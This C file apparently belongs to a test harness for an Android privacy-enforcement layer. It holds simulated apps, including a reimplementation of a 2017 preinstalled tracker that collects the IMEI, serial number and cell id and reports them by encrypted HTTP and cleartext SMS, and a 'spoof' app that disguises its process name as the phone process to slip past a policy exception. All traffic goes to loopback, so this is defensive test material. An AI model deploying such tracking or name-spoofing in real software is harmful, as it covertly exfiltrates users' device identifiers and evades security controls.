// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* apps: the Android VM's apps, run in processes the zygote forked: sts (a 2017 preinstalled
 * tracker that reports IMEI, serial and cell id over HTTP and SMS), and two benign ones.
 *
 * sts does what Tinno's "ApeSale Tracker" did on Wiko phones: IMEI and cell id from the phone
 * process by Binder, the serial from ro.serialno, a report RSA-encrypted and sent by HTTP GET,
 * and the same report in clear by SMS. spoof takes the phone process's name to hide behind its
 * exception. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <openssl/rsa.h>
#include "apps.h"
#include "telephony.h"

#define NET_TIMEOUT_S 5
/* RSA-1024 with PKCS#1 v1.5 padding takes at most 128 - 11 bytes per block */
#define RSA_BLOCK_IN 117
#define REPORT_BYTES 256
#define CIPHER_BYTES 1024

/* URL-safe base64 without padding (RFC 4648 §5). */
static size_t base64url(const unsigned char *in, size_t n, char *out, size_t size)
{
	static const char tab[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
	size_t i, k = 0;

	for (i = 0; i < n; i += 3) {
		unsigned long v = (unsigned long)in[i] << 16;
		size_t left = n - i, chars = left >= 3 ? 4 : left + 1, c;

		if (left > 1)
			v |= (unsigned long)in[i + 1] << 8;
		if (left > 2)
			v |= in[i + 2];
		if (k + chars + 1 > size)
			break;
		for (c = 0; c < chars; c++)
			out[k++] = tab[(v >> (18 - 6 * c)) & 0x3f];
	}
	out[k] = 0;
	return k;
}

/* The report RSA-encrypted with the PEM public key, 117-byte blocks, ciphertexts concatenated. */
static int rsa_encrypt(const char *pem, const char *text, unsigned char *out, size_t size,
		       size_t *out_len)
{
	size_t n = strlen(text), i, k = 0;
	EVP_PKEY_CTX *ctx = NULL;
	EVP_PKEY *key = NULL;
	FILE *f = fopen(pem, "r");
	int err = -EINVAL;

	if (!f) {
		fprintf(stderr, "sts: open key '%s': %s\n", pem, strerror(errno));
		return -errno;
	}
	key = PEM_read_PUBKEY(f, NULL, NULL, NULL);
	fclose(f);
	if (!key) {
		fprintf(stderr, "sts: no public key in '%s'\n", pem);
		return -EINVAL;
	}
	ctx = EVP_PKEY_CTX_new(key, NULL);
	if (!ctx || EVP_PKEY_encrypt_init(ctx) <= 0 ||
	    EVP_PKEY_CTX_set_rsa_padding(ctx, RSA_PKCS1_PADDING) <= 0) {
		fprintf(stderr, "sts: RSA set-up with '%s' failed\n", pem);
		goto out;
	}
	for (i = 0; i < n; i += RSA_BLOCK_IN) {
		const unsigned char *block = (const unsigned char *)text + i;
		size_t len = size - k, in = n - i < RSA_BLOCK_IN ? n - i : RSA_BLOCK_IN;

		if (EVP_PKEY_encrypt(ctx, out + k, &len, block, in) <= 0) {
			fprintf(stderr, "sts: RSA encryption of block %zu failed\n",
				i / RSA_BLOCK_IN);
			goto out;
		}
		k += len;
	}
	*out_len = k;
	err = 0;
out:
	EVP_PKEY_CTX_free(ctx);
	EVP_PKEY_free(key);
	return err;
}

/* GET path from 127.0.0.1:port; prints the status line. 0, or -errno (-EPERM: refused). */
static int http_get(const char *who, unsigned int port, const char *path, const char *agent)
{
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(port) };
	struct timeval tv = { .tv_sec = NET_TIMEOUT_S };
	char req[2048], resp[512];
	int fd, n, len, err = 0;

	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0) {
		fprintf(stderr, "%s: socket: %s\n", who, strerror(errno));
		return -errno;
	}
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&addr, sizeof(addr))) {
		err = -errno;
		printf("%s: connect to 127.0.0.1:%u refused: %s%s\n", who, port, strerror(errno),
		       errno == EPERM ? " (EPERM)" : "");
		goto out;
	}
	len = snprintf(req, sizeof(req),
		       "GET %s HTTP/1.1\r\nHost: 127.0.0.1:%u\r\nUser-Agent: %s\r\n"
		       "Connection: close\r\n\r\n",
		       path, port, agent);
	if (len < 0 || (size_t)len >= sizeof(req)) {
		err = -EMSGSIZE;
		goto out;
	}
	n = send(fd, req, len, MSG_NOSIGNAL);
	if (n != len) {
		err = n < 0 ? -errno : -EIO;
		printf("%s: send to 127.0.0.1:%u failed: %s\n", who, port,
		       n < 0 ? strerror(errno) : "short send");
		goto out;
	}
	n = recv(fd, resp, sizeof(resp) - 1, 0);
	if (n <= 0) {
		printf("%s: sent %d bytes to 127.0.0.1:%u, no answer (%s)\n", who, len, port,
		       n < 0 ? strerror(errno) : "connection closed");
		err = n < 0 ? -errno : -ECONNRESET;
		goto out;
	}
	resp[n] = 0;
	resp[strcspn(resp, "\r\n")] = 0;
	printf("%s: sent %d bytes to 127.0.0.1:%u, server answered '%s'\n", who, len, port, resp);
out:
	close(fd);
	return err;
}

static int get_service(const char *who, struct binder *b, const char *name, uint32_t *handle)
{
	int err = sm_get_service(b, name, handle);

	if (err)
		printf("%s: getService('%s') failed: %s\n", who, name,
		       err == -ENOENT ? "not registered" : strerror(err < 0 ? -err : EIO));
	else
		printf("%s: getService('%s') -> handle %u\n", who, name, *handle);
	return err;
}

static int app_sts(const struct app_env *env, struct binder *b)
{
	char imei[VALUE_BYTES], serial[PROP_VALUE_MAX], model[PROP_VALUE_MAX],
		build[PROP_VALUE_MAX];
	char report[REPORT_BYTES], b64[CIPHER_BYTES * 2], path[CIPHER_BYTES * 2 + 64];
	unsigned char cipher[CIPHER_BYTES];
	struct cell_identity cell;
	struct sms_text_args sms = { .sub_id = 1, .persist = 1 };
	uint32_t subinfo, telephony, isms;
	size_t cipher_len = 0;
	int err, n;

	/* TelephonyManager.getDeviceId(0) */
	if (get_service("sts", b, SERVICE_IPHONESUBINFO, &subinfo))
		return 1;
	err = call_string_getter(b, subinfo, IPHONESUBINFO_DESCRIPTOR,
				 IPHONESUBINFO_GET_DEVICE_ID_FOR_PHONE, ARGS_INT_PKG_FEATURE, 0,
				 env->package, imei, sizeof(imei));
	if (err) {
		printf("sts: IPhoneSubInfo.getDeviceIdForPhone failed: %s\n", strerror(-err));
		return 1;
	}
	printf("sts: IMEI by Binder (IPhoneSubInfo.getDeviceIdForPhone, code %d): %zu digits\n",
	       IPHONESUBINFO_GET_DEVICE_ID_FOR_PHONE, strlen(imei));

	/* Build.getSerial() on a 2017 release: the property, read in the app's own process */
	n = __system_property_get("ro.serialno", serial);
	printf("sts: serial by __system_property_get(\"ro.serialno\"): %d characters\n", n);
	__system_property_get("ro.product.model", model);
	__system_property_get("ro.build.display.id", build);

	if (get_service("sts", b, SERVICE_PHONE, &telephony))
		return 1;
	err = call_get_cell_location(b, telephony, env->package, &cell);
	if (err) {
		printf("sts: ITelephony.getCellLocation failed: %s\n", strerror(-err));
		return 1;
	}
	printf("sts: cell by Binder (ITelephony.getCellLocation, code %d): GSM %s-%s lac %d "
	       "cid %d\n",
	       ITELEPHONY_GET_CELL_LOCATION, cell.mcc, cell.mnc, cell.lac, cell.cid);

	n = snprintf(report, sizeof(report), "TN:IMEI1,%s,%s,%s,%s,%s,CID:%d", imei, env->client_no,
		     model, build, serial, cell.cid);
	if (n < 0 || (size_t)n >= sizeof(report)) {
		printf("sts: report too long\n");
		return 1;
	}
	printf("sts: report (%d bytes): %s\n", n, report);

	if (rsa_encrypt(env->pubkey, report, cipher, sizeof(cipher), &cipher_len))
		return 1;
	base64url(cipher, cipher_len, b64, sizeof(b64));
	printf("sts: RSA-1024 PKCS#1 v1.5: %zu bytes, %zu base64url characters\n", cipher_len,
	       strlen(b64));
	snprintf(path, sizeof(path), "/sts/report?repinfo=%s", b64);
	err = http_get("sts", env->port, path, "Dalvik/2.1.0 (Linux; U; Android 14)");
	if (err == -EPERM)
		printf("sts: HTTP report blocked (connect refused with EPERM); on to the SMS\n");
	else if (err)
		printf("sts: HTTP report failed: %s\n", strerror(-err));
	else
		printf("sts: HTTP report sent\n");

	/* SmsManager.sendTextMessage(number, null, report, null, null) */
	if (get_service("sts", b, SERVICE_ISMS, &isms))
		return 1;
	snprintf(sms.calling_pkg, sizeof(sms.calling_pkg), "%s", env->package);
	snprintf(sms.dest_addr, sizeof(sms.dest_addr), "%s", env->sms_to);
	snprintf(sms.text, sizeof(sms.text), "%s", report);
	err = call_send_text(b, isms, &sms);
	if (err == -ECOMM) {
		printf("sts: SMS report refused: the ISms transaction failed (BR_FAILED_REPLY)\n");
		return 1;
	}
	if (err) {
		printf("sts: ISms.sendTextForSubscriber failed: %s\n", strerror(-err));
		return 1;
	}
	printf("sts: SMS report by Binder (ISms.sendTextForSubscriber, code %d) to %s: %zu "
	       "characters\n",
	       ISMS_SEND_TEXT_FOR_SUBSCRIBER, sms.dest_addr, strlen(sms.text));
	return 0;
}

static int app_weather(const struct app_env *env, struct binder *b)
{
	int err;

	(void)b;
	printf("weather: fetching the forecast\n");
	err = http_get("weather", env->port, "/weather/today?city=Paris&units=metric",
		       "Dalvik/2.1.0 (Linux; U; Android 14)");
	return err != 0;
}

static int app_imeicheck(const struct app_env *env, struct binder *b)
{
	char imei[VALUE_BYTES];
	uint32_t subinfo;
	int err;

	/* TelephonyManager.getImei(): shown on screen, never sent */
	if (get_service("imeicheck", b, SERVICE_IPHONESUBINFO, &subinfo))
		return 1;
	err = call_string_getter(b, subinfo, IPHONESUBINFO_DESCRIPTOR,
				 IPHONESUBINFO_GET_IMEI_FOR_SUBSCRIBER, ARGS_INT_PKG_FEATURE, 1,
				 env->package, imei, sizeof(imei));
	if (err) {
		printf("imeicheck: IPhoneSubInfo.getImeiForSubscriber failed: %s\n",
		       strerror(-err));
		return 1;
	}
	printf("imeicheck: IMEI by Binder (IPhoneSubInfo.getImeiForSubscriber, code %d): %zu "
	       "digits, kept on the device\n",
	       IPHONESUBINFO_GET_IMEI_FOR_SUBSCRIBER, strlen(imei));
	/* the same getter with the interface tokens of older releases, which the agent must read
	 * too: Android 10's (no 'SYST' word) and Android 9's (the strict-mode policy alone) */
	for (parcel_token_release = 10; parcel_token_release >= 9; parcel_token_release--) {
		err = call_string_getter(b, subinfo, IPHONESUBINFO_DESCRIPTOR,
					 IPHONESUBINFO_GET_DEVICE_ID, ARGS_PKG, 0, env->package,
					 imei, sizeof(imei));
		printf("imeicheck: IMEI by Binder with an Android %d token (getDeviceId, code %d): "
		       "%s\n", parcel_token_release, IPHONESUBINFO_GET_DEVICE_ID,
		       err ? strerror(-err) : "ok");
		if (err)
			return 1;
	}
	parcel_token_release = 11;
	return 0;
}

/* An adversary: takes the IMEI by Binder, then names itself like the phone process (which the
 * policy excepts) before sending it in clear, hoping the exception covers it. */
static int app_spoof(const struct app_env *env, struct binder *b)
{
	char imei[VALUE_BYTES], path[128];
	uint32_t subinfo;
	int err;

	if (get_service("spoof", b, SERVICE_IPHONESUBINFO, &subinfo))
		return 1;
	err = call_string_getter(b, subinfo, IPHONESUBINFO_DESCRIPTOR, IPHONESUBINFO_GET_DEVICE_ID,
				 ARGS_PKG, 0, env->package, imei, sizeof(imei));
	if (err) {
		printf("spoof: IPhoneSubInfo.getDeviceId failed: %s\n", strerror(-err));
		return 1;
	}
	prctl(PR_SET_NAME, "m.android.phone", 0, 0, 0);
	printf("spoof: IMEI by Binder, now calling itself m.android.phone; sending it\n");
	snprintf(path, sizeof(path), "/collect?device=%s", imei);
	return http_get("spoof", env->port, path, "okhttp/4.12.0") != 0;
}

app_main_fn app_find(const char *kind)
{
	if (!strcmp(kind, "spoof"))
		return app_spoof;
	if (!strcmp(kind, "sts"))
		return app_sts;
	if (!strcmp(kind, "weather"))
		return app_weather;
	if (!strcmp(kind, "imeicheck"))
		return app_imeicheck;
	return NULL;
}
